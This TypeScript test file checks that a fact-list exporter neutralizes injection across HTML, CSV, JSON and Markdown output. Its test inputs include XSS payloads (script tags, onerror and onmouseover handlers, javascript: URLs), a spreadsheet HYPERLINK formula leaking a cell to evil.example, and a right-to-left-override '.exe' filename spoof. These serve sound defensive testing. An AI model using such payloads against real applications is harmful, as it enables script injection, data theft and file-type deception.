import assert from 'node:assert/strict';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { parse, type DefaultTreeAdapterMap } from 'parse5';
import { EXPORT_FORMATS, type ExportFormat } from '../../../src/core/export/exportFormats';
import type { ListedEntry, ListHead, ListWords } from '../../../src/core/export/factList';

const words: ListWords = {
  language: 'en',
  sources: 'Sources',
  dossiers: 'Dossiers',
  note: 'Note',
  gone: 'gone',
  retrieved: (date) => `retrieved ${date}`,
  exported: (date) => `Exported on ${date}.`,
};

/** An export in which a text stands wherever a dossier, or a search, can put one. */
function write(format: ExportFormat, text: string): string {
  const head: ListHead = {
    title: text,
    language: 'en',
    summary: text,
    exported: { edtf: '2020-02-03', text: '3 February 2020' },
  };
  const entries: ListedEntry[] = [
    { kind: 'heading', depth: 1, text, language: 'en', key: 'd/t', summary: text },
    {
      kind: 'fact',
      key: 'd/f',
      text: { text, marks: [{ kind: 'strong', start: 0, end: text.length }] },
      language: 'en',
      dates: [{ edtf: '2005', text: '2005' }],
      quantities: [{ value: 5, kind: 'currency', unit: 'USD' }],
      names: [{ key: 'd/n', label: text }],
      dossier: { key: 'd', title: text, license: text },
      topic: { key: 'd/t', title: text },
      section: { key: 'd/s', title: text },
      source: { key: 'd/x', title: text, url: `https://example.org/${text}`, license: text },
    },
    {
      kind: 'fact',
      key: 'd/g',
      text: { text, marks: [] },
      language: 'ar',
      dates: [],
      quantities: [],
      names: [],
      source: { key: 'd/y', title: text, url: `javascript:alert(1)//${text}` },
    },
  ];
  return [...EXPORT_FORMATS[format].write(head, entries, words)].join('');
}

type Node = DefaultTreeAdapterMap['node'];
const all = (node: Node): DefaultTreeAdapterMap['element'][] => [
  ...('tagName' in node ? [node] : []),
  ...('childNodes' in node ? node.childNodes.flatMap(all) : []),
];
const textOf = (node: Node): string =>
  'value' in node ? node.value : 'childNodes' in node ? node.childNodes.map(textOf).join('') : '';

/** What each of them is shown as; the same where nothing is said. */
const TEXTS: readonly (readonly [what: string, text: string, shown?: string])[] = [
  ['a script', '<script>alert(1)</script><img src=x onerror=alert(1)>'],
  ['the ends of elements', '</style></title></textarea><!-- --> <![CDATA[ x ]]> ]]>'],
  ['quotation marks', `" onmouseover="alert(1)" ' "" &quot; &#34;`],
  ['a formula of a spreadsheet', '=HYPERLINK("https://evil.example/"&A1;"x")'],
  ['a formula behind a space', ' \u00a0@SUM(1)', '@SUM(1)'],
  ['the separators of CSV', 'a,"b";c\td'],
  [
    'Markdown',
    '![a](https://evil.example/a.png) [b](javascript:x) `c` **d** <https://evil.example> [^1] # e',
  ],
  ['a formula of TeX', 'It cost $5 or $\\\\text{six}$, not $$7$$'],
  ['words from right to left', 'قال: «نعم» (2005)'],
  ['signs that turn the direction', 'safe \u202egnp.exe\u2066 \u061c end'],
  ['control characters', 'a\u0000b\u001b[31mc\u0007\u007f\u0085d', 'a\ufffdb\ufffd[31mc\ufffd\ufffd\ufffdd'],
  ['a half of a character', 'a\ud83dz', 'a\ufffdz'],
  ['all of Unicode', 'e\u0301 ﷽ 👩‍👩‍👧 ﻿x\u2028y 한국어'],
];

describe('A text in an export', () => {
  for (const [what, text, shown = text] of TEXTS) {
    const flat = (one: string): string => one.replace(/\s+/gu, ' ').trim();

    it(`that is ${what} is only text in HTML`, () => {
      const page = write('html', text);
      // As a file is written and read.
      const tree = parse(new TextDecoder().decode(new TextEncoder().encode(page)));
      const elements = all(tree);
      const of = (tag: string): DefaultTreeAdapterMap['element'][] =>
        elements.filter(({ tagName }) => tagName === tag);
      assert.deepEqual(
        ['h1', 'title'].map((tag) => flat(textOf(of(tag)[0]!))),
        [flat(shown), flat(shown)],
      );
      assert.equal(of('strong').length, 1);
      assert.equal(flat(textOf(of('strong')[0]!)), flat(shown));
      for (const tag of ['script', 'img', 'iframe', 'link', 'object', 'base', 'form', 'svg']) {
        assert.equal(of(tag).length, 0, tag);
      }
      for (const { attrs } of elements) {
        for (const { name, value } of attrs) {
          assert.doesNotMatch(name, /^(?:on|src$|style$|action$)/u);
          if (name === 'href') assert.match(value, /^(?:https:\/\/example\.org\/|#source-\d+$)/u);
        }
      }
      assert.doesNotMatch(page, /(?![\t\n\r])\p{Cc}|\p{Cs}/u);
    });

    it(`that is ${what} comes back from CSV, and no cell computes`, () => {
      const csv = write('csv', text);
      const lines = rowsOf(csv);
      assert.deepEqual(
        lines.map(({ length }) => length),
        [16, 16, 16],
      );
      const cell = lines[1]![lines[0]!.indexOf('text')]!;
      const safe = /^[\s]*[=+\-@]/u.test(text) ? `'${text}` : shown;
      assert.equal(cell, safe);
      for (const each of lines.flat()) assert.doesNotMatch(each, /^\s*[=+\-@]/u);
      assert.doesNotMatch(csv, /(?![\t\n\r])\p{Cc}|\p{Cs}/u);
    });

    it(`that is ${what} comes back from JSON as it is, with its source and licence`, () => {
      const json = JSON.parse(new TextDecoder().decode(new TextEncoder().encode(write('json', text)))) as {
        title: string;
        entries: { text: string; license?: string }[];
        sources: { title: string; license?: string }[];
      };
      assert.equal(json.title, text);
      assert.deepEqual(
        json.entries.map((entry) => entry.text),
        [text, text, text],
      );
      assert.equal(json.entries[1]?.license, text);
      assert.equal(json.sources[0]?.title, text);
      assert.equal(json.sources[0].license, text);
    });

    it(`that is ${what} is only text in Markdown`, () => {
      const markdown = write('markdown', text);
      const links: string[] = [];
      const headings: string[] = [];
      const walk = (node: MarkdownNode): void => {
        assert.ok(!['html', 'image', 'code', 'inlineCode', 'definition'].includes(node.type), node.type);
        if (node.type === 'link') links.push(node.url!);
        if (node.type === 'heading') headings.push(wordsOf(node));
        for (const child of node.children ?? []) walk(child);
      };
      walk(fromMarkdown(markdown));
      assert.equal(flat(headings[0]!), flat(shown));
      assert.ok(
        links.every((url) => url.startsWith('https://example.org/')),
        links.join(),
      );
      // Pages that know formulas see none, but in the addresses of sources.
      assert.doesNotMatch(markdown.replace(/\(<[^>]*>\)/gu, ''), /(?<!\\)\$/u);
    });
  }

  it('stands in one HTML file that loads nothing and has a look on paper', () => {
    const page = write('html', 'Words');
    const [style] = all(parse(page)).filter(({ tagName }) => tagName === 'style');
    assert.match(textOf(style!), /@media print \{\s*:root \{ color-scheme: light; \}/u);
    assert.doesNotMatch(textOf(style!), /url\(|@import|@font-face/iu);
    assert.match(page, /default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'/u);
  });
});

interface MarkdownNode {
  readonly type: string;
  readonly value?: string;
  readonly url?: string;
  readonly children?: readonly MarkdownNode[];
}
function wordsOf(node: MarkdownNode): string {
  return node.value ?? (node.children ?? []).map(wordsOf).join('');
}

/** The rows of a CSV text by RFC 4180, read letter by letter. */
function rowsOf(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let at = 0;
  while (at < csv.length) {
    let field = '';
    if (csv[at] === '"') {
      for (at++; ; at++) {
        if (csv[at] === '"' && csv[at + 1] !== '"') break;
        if (csv[at] === '"') at++;
        assert.ok(at < csv.length, 'a field that is never closed');
        field += csv[at]!;
      }
      at++;
    } else {
      for (; at < csv.length && csv[at] !== ',' && csv[at] !== '\r'; at++) {
        assert.ok(csv[at] !== '"' && csv[at] !== '\n', 'a sign that must stand in quotation marks');
        field += csv[at]!;
      }
    }
    row.push(field);
    if (csv[at] === ',') {
      at++;
      continue;
    }
    assert.equal(csv.slice(at, at + 2), '\r\n');
    at += 2;
    rows.push(row);
    row = [];
  }
  assert.equal(row.length, 0);
  return rows;
}
